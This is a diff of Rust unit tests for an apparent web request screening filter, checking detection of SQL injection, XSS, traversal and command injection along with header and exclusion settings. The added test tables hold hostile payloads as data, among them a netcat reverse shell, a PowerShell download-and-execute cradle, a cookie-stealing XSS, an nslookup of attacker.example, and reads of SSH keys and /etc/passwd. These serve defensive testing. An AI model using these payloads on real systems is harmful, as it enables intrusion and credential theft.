@@ -40,7 +40,7 @@ fn defaults_and_full_config() {
     assert_eq!(r, ScreeningRule::default());
     assert_eq!(r.sensitivity, Sensitivity::Medium);
     assert!(r.blocks());
-    assert_eq!(r.headers, vec!["user-agent", "referer"]);
+    assert_eq!(r.headers, HeaderSet::All);
 
     let r = rule(json!({
         "sqli": false, "xss": true, "traversal": false, "command_injection": true,
@@ -52,7 +52,10 @@ fn defaults_and_full_config() {
     assert!(!r.sqli && r.xss && !r.traversal && r.command_injection);
     assert_eq!(r.sensitivity, Sensitivity::High);
     assert!(!r.blocks());
-    assert_eq!(r.headers, vec!["user-agent", "x-forwarded-host"]);
+    assert_eq!(
+        r.headers,
+        HeaderSet::Listed(vec!["user-agent".into(), "x-forwarded-host".into()])
+    );
     assert_eq!(r.skip.header, vec!["referer"]);
     assert_eq!(
         r.skip.json,
@@ -148,8 +151,14 @@ fn screens_every_request_location() {
             Some((Class::Traversal, "query.name")),
         ),
         (
-            vec![(":path", "/api/ping?host=127.0.0.1%3Bcat%20/etc/passwd")],
+            vec![(":path", "/api/ping?host=127.0.0.1%3Bwhoami")],
             Some((Class::CommandInjection, "query.host")),
+        ),
+        (
+            // `/etc/passwd` anywhere is a sensitive file now, and traversal is tried before
+            // command injection.
+            vec![(":path", "/api/ping?host=127.0.0.1%3Bcat%20/etc/passwd")],
+            Some((Class::Traversal, "query.host")),
         ),
         (
             vec![(":path", "/api?%3Cscript%3E=1")],
@@ -737,4 +746,224 @@ fn ordinary_file_names_pass() {
             );
         }
     }
+}
+
+// ---- families added with the public-source corpus (issue 13) ----
+
+/// Each new rule id on an attack, and a near miss of ordinary text that must pass, at the
+/// default sensitivity, screened as a query value.
+#[test]
+fn new_families_table() {
+    let r = rule(json!({}));
+    let attacks: &[(&str, &str)] = &[
+        // command injection without a separator
+        ("uname -a", "cmdi.command_line"),
+        ("nc -e /bin/sh 10.0.0.1 4444", "cmdi.command_line"),
+        ("nslookup attacker.example", "cmdi.command_line"),
+        ("rundll32 javascript:x", "cmdi.command_line"),
+        ("powershell -nop -w hidden", "cmdi.command_line"),
+        (
+            "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
+            "cmdi.powershell",
+        ),
+        ("Get-ChildItem -Path C:/Users", "cmdi.powershell"),
+        ("() { :;}; /bin/bash -c id", "cmdi.shellshock"),
+        ("/???/c?t /e??/p??s??", "cmdi.glob_path"),
+        ("%COMSPEC% /c dir", "cmdi.windows_variable"),
+        // Evasion inside the word is folded before the name lookup.
+        ("x;c$@at${u} /e??/hosts", "cmdi.chained_command"),
+        ("';exit(md5('x'));//", "cmdi.php_code"),
+        // SQL without punctuation, catalogs, CASE, NoSQL
+        ("ELT(8368=6547,9400)", "sqli.function_call"),
+        (
+            "1 AND 1=(SELECT 1 FROM SYSIBM.SYSDUMMY1)",
+            "sqli.schema_probe",
+        ),
+        ("GENERATE_SERIES(1,2)", "sqli.function_call"),
+        ("sys.uuid_to_bin (x)", "sqli.function_call"),
+        (
+            "(CASE WHEN 3337=5369 THEN 11 ELSE NULL END)",
+            "sqli.case_when",
+        ),
+        (") AS x WHERE 9395=3778", "sqli.tautology"),
+        (" and 1=1", "sqli.tautology"),
+        ("1` UNION ALL SELECT NULL,NULL-- -", "sqli.union"),
+        ("[$ne]", "sqli.nosql_operator"),
+        ("{\"$where\": \"sleep(100)\"}", "sqli.nosql_operator"),
+        // XSS without a tag breakout
+        ("document.location='//x/'+document.cookie", "xss.dom_sink"),
+        ("alert`1`", "xss.dom_sink"),
+        ("window['al'+'ert'](1)", "xss.dom_sink"),
+        ("<x:script>alert(1)</x:script>", "xss.script_tag"),
+        ("<marquee onstart=alert(1)>", "xss.event_handler"),
+        ("<xmp><img src=x>", "xss.dangerous_tag"),
+        ("+ADw-script+AD4-x+ADw-/script+AD4-", "xss.utf7"),
+        // sensitive files anywhere
+        ("/var/www/html/.htpasswd", "traversal.sensitive_file"),
+        ("cat /proc/self/environ", "traversal.sensitive_file"),
+        (
+            "C:\\inetpub\\wwwroot\\web.config",
+            "traversal.sensitive_file",
+        ),
+        ("/home/app/.ssh/id_rsa", "traversal.sensitive_file"),
+    ];
+    for (s, want) in attacks {
+        let got = r.screen_value(encode(s).as_bytes(), ValueKind::Query);
+        assert_eq!(got.map(|(_, id)| id), Some(*want), "{s}");
+    }
+    let benign = [
+        "Call alert() sparingly in demos.",
+        "Edit your /etc/hosts file to add the domain.",
+        "In case when you travel, then call us.",
+        "Telnet is an old protocol.",
+        "Invoke the API with the get-item route",
+        "python manage.py migrate",
+        "Set up the ``python -m venv`` first",
+        "The price is $5 and the filter is [$10, $20]",
+        "src/components/Header.tsx",
+        "https://cdn.example.com/img/2024/??/photo.jpg",
+        "Save 20% on %DATE% orders",
+        "elt and iif are spreadsheet words",
+        "See package.json and tsconfig.json in the repo.",
+        "{\"$gt\": 5}",
+        "() => { return 1 }",
+    ];
+    for s in benign {
+        assert_eq!(
+            r.screen_value(encode(s).as_bytes(), ValueKind::Query),
+            None,
+            "{s}"
+        );
+        let body = serde_json::to_vec(&json!({ "v": s })).unwrap();
+        assert_eq!(r.screen_body("application/json", &body), None, "{s}");
+    }
+}
+
+/// Every request header is screened by default, except credentials, cookies (screened one by
+/// one), pseudo-headers and `skip`ped ones; a listed set screens only its headers.
+#[test]
+fn headers_screened_by_default() {
+    let all = rule(json!({}));
+    let attack = "' or 1=1--";
+    let hs = headers(&[(":path", "/a"), ("x-tenant", attack)]);
+    let got = all.screen_request(&request(&hs)).map(|d| d.location.key());
+    assert_eq!(got.as_deref(), Some("header.x-tenant"));
+    for name in ["authorization", "proxy-authorization"] {
+        let hs = headers(&[(":path", "/a"), (name, attack)]);
+        assert_eq!(all.screen_request(&request(&hs)), None, "{name}");
+    }
+    let hs = headers(&[(":path", "/a"), (":authority", "<script>")]);
+    assert_eq!(all.screen_request(&request(&hs)), None);
+    let skipped = rule(json!({"skip": ["header.X-Tenant"]}));
+    let hs = headers(&[(":path", "/a"), ("x-tenant", attack)]);
+    assert_eq!(skipped.screen_request(&request(&hs)), None);
+    let listed = rule(json!({"headers": ["referer"]}));
+    assert_eq!(listed.screen_request(&request(&hs)), None);
+    assert_eq!(rule(json!({"headers": "all"})).headers, HeaderSet::All);
+    let e = errors(json!({"headers": "some"}));
+    assert_eq!(e[0].0, "policies.p.screening.headers");
+    // Ordinary browser headers pass.
+    let hs = headers(&[
+        (":path", "/a"),
+        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
+        ("accept-language", "de-DE,de;q=0.9,en;q=0.8"),
+        ("accept-encoding", "gzip, deflate, br, zstd"),
+        ("sec-ch-ua", "\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\""),
+        ("sec-ch-ua-platform", "\"Windows\""),
+        ("sec-fetch-site", "same-origin"),
+        ("if-none-match", "W/\"5e15153d-120f\""),
+        ("x-forwarded-for", "203.0.113.7, 10.0.0.1"),
+        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
+        ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
+        ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36"),
+        ("referer", "https://shop.example/orders?page=1&sort=-created"),
+        ("cache-control", "no-cache"),
+        ("x-request-id", "9f1c2e7a-3b4d-4c5e-8f90-1a2b3c4d5e6f"),
+    ]);
+    assert_eq!(all.screen_request(&request(&hs)), None);
+}
+
+/// `exclude` silences a rule id on one location (or everywhere); other classes still run.
+#[test]
+fn exclusions_by_rule_and_location() {
+    let r = rule(json!({"exclude": [
+        {"rule": "sqli.tautology", "location": "query.filter"},
+        {"rule": "xss.script_tag", "location": "json./docs/*"},
+        {"rule": "bot.scanner"}
+    ]}));
+    let hs = headers(&[(":path", "/a?filter=%27%20or%201%3D1--")]);
+    assert_eq!(r.screen_request(&request(&hs)), None);
+    let hs = headers(&[(":path", "/a?q=%27%20or%201%3D1--")]);
+    assert_eq!(
+        r.screen_request(&request(&hs)).map(|d| d.rule_id),
+        Some("sqli.tautology")
+    );
+    // The excluded rule's value is still screened for the other classes.
+    let hs = headers(&[(":path", "/a?filter=%27%20or%201%3D1--%20%3Cscript%3E")]);
+    assert_eq!(
+        r.screen_request(&request(&hs)).map(|d| d.class),
+        Some(Class::Xss)
+    );
+    let body = br#"{"docs": {"a": "<script>x</script>"}, "other": "<script>y</script>"}"#;
+    let d = r.screen_body("application/json", body).unwrap();
+    assert_eq!(d.location.key(), "json./other");
+    let hs = headers(&[(":path", "/a"), ("user-agent", "sqlmap/1.8")]);
+    assert_eq!(r.screen_request(&request(&hs)), None);
+    let e = errors(json!({"exclude": [{"rule": "sqli.nope"}, {"location": "query.a"}, "x"]}));
+    let paths: Vec<&str> = e.iter().map(|(p, _)| p.as_str()).collect();
+    assert_eq!(
+        paths,
+        vec![
+            "policies.p.screening.exclude[0].rule",
+            "policies.p.screening.exclude[0]",
+            "policies.p.screening.exclude[1]",
+            "policies.p.screening.exclude[2]"
+        ]
+    );
+}
+
+/// `extra` vocabularies extend the built-in ones for this policy only.
+#[test]
+fn extra_vocabularies() {
+    let r = rule(json!({"extra": {
+        "files": ["secrets/app.key"],
+        "commands": ["frobctl"],
+        "cmdlets": ["Invoke-Frob"],
+        "sql_functions": ["frob_exec"],
+        "scanners": ["FrobScanner"]
+    }}));
+    let plain = rule(json!({}));
+    for (s, id) in [
+        ("/srv/secrets/app.key", "traversal.sensitive_file"),
+        ("frobctl --all /", "cmdi.command_line"),
+        ("Invoke-Frob -Now", "cmdi.powershell"),
+        ("1 or frob_exec(1)", "sqli.function_call"),
+    ] {
+        assert_eq!(
+            r.screen_value(encode(s).as_bytes(), ValueKind::Query)
+                .map(|(_, i)| i),
+            Some(id),
+            "{s}"
+        );
+        assert_eq!(
+            plain.screen_value(encode(s).as_bytes(), ValueKind::Query),
+            None,
+            "{s}"
+        );
+    }
+    let hs = headers(&[(":path", "/a"), ("user-agent", "frobscanner/2")]);
+    assert_eq!(
+        r.screen_request(&request(&hs)).map(|d| d.rule_id),
+        Some("bot.scanner")
+    );
+    assert_eq!(plain.screen_request(&request(&hs)), None);
+    let e = errors(json!({"extra": {"files": ["x"], "verbs": []}}));
+    let paths: Vec<&str> = e.iter().map(|(p, _)| p.as_str()).collect();
+    assert_eq!(
+        paths,
+        vec![
+            "policies.p.screening.extra.files[0]",
+            "policies.p.screening.extra.verbs"
+        ]
+    );
 }
